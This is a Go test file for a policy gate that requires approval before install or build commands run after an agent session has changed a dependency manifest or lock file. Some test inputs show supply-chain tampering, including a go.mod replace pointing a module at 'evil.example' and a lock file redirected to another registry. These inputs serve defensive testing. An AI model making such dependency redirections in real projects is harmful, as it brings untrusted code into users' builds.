package gates_test

import (
	"strings"
	"testing"

	"github.com/gbt-policy/gbt/gates"
)

// TestManifestsHoweverWritten: a manifest or a lock file that the session changed asks at the run
// which brings in what it did not name before, whichever program changed it, and once.
func TestManifestsHoweverWritten(t *testing.T) {
	const npm, more = `{"dependencies": {"a": "^1"}}`, `{"dependencies": {"a": "^1", "b": "^1"}}`
	const lock = "\"resolved\": \"https://registry.example/a.tgz\"\n"
	const script = "# /// script\n# dependencies = [\"b\"]\n# ///\nprint(1)\n"
	for _, row := range []struct {
		file, before, after, by, run string
		asks                         bool
	}{
		{"package.json", npm, more, `sed -i 's/"a"/"b": "^1", "a"/' package.json`, "npm install", true},
		{"package.json", npm, more, `jq '.dependencies.b="^1"' package.json > t.json && mv t.json package.json`, "npm ci", true},
		{"package.json", npm, more, `python3 -c "import json;p=json.load(open('package.json'));json.dump(p,open('package.json','w'))"`, "npm install", true},
		{"package.json", npm, more, "npm pkg set dependencies.b=1", "npm install", true},
		{"package.json", npm, more, "cp /home/u/p/x.json package.json", "pnpm install", true},
		{"package.json", npm, more, "git apply x.patch", "npm install", true},
		{"package.json", npm, `{"version": "2", "dependencies": {"a": "^2"}}`, "sed -i s/1/2/ package.json", "npm install", false},
		{"package.json", npm, `{}`, "sed -i s/a/b/ package.json", "npm install", false},
		{"package.json", npm, npm, "sed -i s/a/b/ package.json", "npm install", false}, // git has put it back since
		{"package.json", npm, more, "git checkout main -- package.json", "npm install", false},
		{"package.json", npm, more, "git stash pop", "npm install", false},
		{"package.json", npm, more, "git merge main", "npm ci", false},
		{"package.json", npm, more, "sed -i s/a/b/ package.json", "npm run lint", false},
		{"requirements.txt", "a\n", "a\nb\n", "echo b >> requirements.txt", "pip install -r requirements.txt", true},
		{"requirements/dev.txt", "", "b\n", "echo b > requirements/dev.txt", "pip install -r requirements/dev.txt", true},
		{"go.mod", "module p\n", "module p\n\nreplace a.example/b => c.example/b v1.0.0\n", "go mod edit -replace=a.example/b=c.example/b@v1.0.0", "go build ./...", true},
		{"go.mod", "module p\n", "module p\n\nrequire c.example/b v1.0.0\n", "sed -i '$a require c.example/b v1.0.0' go.mod", "go version", false},
		{"package-lock.json", lock, strings.ReplaceAll(lock, "registry", "other"), "sed -i s/registry/other/ package-lock.json", "npm ci", true},
		{"package-lock.json", lock, lock, "sed -i s/registry/other/ package-lock.json", "npm ci", false},
		{"package-lock.json", lock, "x", "git checkout --theirs package-lock.json", "npm ci", false},
		{"Cargo.lock", "[[package]]\n", "[[package]]\nname = \"b\"\n", "perl -pi -e s/a/b/ Cargo.lock", "cargo build", true},
		{"s.py", "", script, "cat > s.py <<'EOF'\n" + script + "EOF", "uv run s.py", true},
		{"s.py", "", "print(1)\n", "cat > s.py <<'EOF'\nprint(1)\nEOF", "uv run s.py", false},
		{"s.py", "", script, "cat > s.py <<'EOF'\n" + script + "EOF", "python s.py", false},
		{"setup.py", "setup(name='p')\n", "setup(name='p', install_requires=['b'])\n", "sed -i s/p/b/ setup.py", "pip install -e .", true},
		{"setup.cfg", "[options]\n", "[options]\ninstall_requires =\n    b\n", "sed -i s/p/b/ setup.cfg", "pip install -e .", true},
	} {
		disk := map[string]string{"x.patch": "+b\n", "yarn.lock": "a@^1:\n"}
		if row.before != "" {
			disk[row.file] = row.before
		}
		p := inProject(t, disk)
		p.call("Bash", map[string]string{"command": row.by})
		p.disk["/home/u/p/"+row.file] = row.after
		for i, want := range []bool{row.asks, false} {
			if d := p.call("Bash", map[string]string{"command": row.run}); (d.Disposition != gates.Approved) != want {
				t.Errorf("%s, then %s, run %d: %v %v", row.by, row.run, i+1, d.Disposition, d.Reasons)
			}
		}
	}
}

// TestNamesThatNobodyLooksAt: where a host lets no file be read, what a line changes in a manifest
// is told without the names.
func TestNamesThatNobodyLooksAt(t *testing.T) {
	c := gates.ShellContext("go mod edit -replace a.example/b=evil.example/b@v1.0.0 && go mod tidy", gates.State{Cwd: "/w", Roots: []string{"/w"}})
	told := 0
	for i := range c.Effects {
		told += len(c.Turned(i))
	}
	if told == 0 {
		t.Error("nothing is told")
	}
}
